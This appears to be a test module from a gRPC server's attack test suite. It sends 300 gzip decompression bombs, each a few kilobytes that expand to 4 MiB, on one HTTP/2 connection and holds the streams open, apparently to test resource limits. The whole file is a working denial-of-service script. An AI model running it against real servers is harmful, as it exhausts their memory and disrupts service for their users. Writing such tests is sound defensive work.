"""300 compressed messages on one connection, of 4 KB each, which become 4 MiB each."""

from __future__ import annotations

import gzip

import trio

from tests.attacks import raw

STREAMS = 300
LENGTH = 4 * 1024 * 1024 - 64


async def run(address: str, seconds: float) -> None:
    """Send them, do not end the calls, and hold them for `seconds`."""
    block = raw.header_block(f"/{raw.SERVICE}/Echo", grpc_encoding="gzip")
    bomb = raw.message(gzip.compress(bytes(LENGTH)), compressed=True)
    with trio.move_on_after(seconds):
        async with raw.connected(address) as connection:
            for stream_id in range(1, 2 * STREAMS, 2):
                await connection.send(raw.headers(stream_id, block))
                await connection.send_data(stream_id, bomb)
            await trio.sleep_forever()
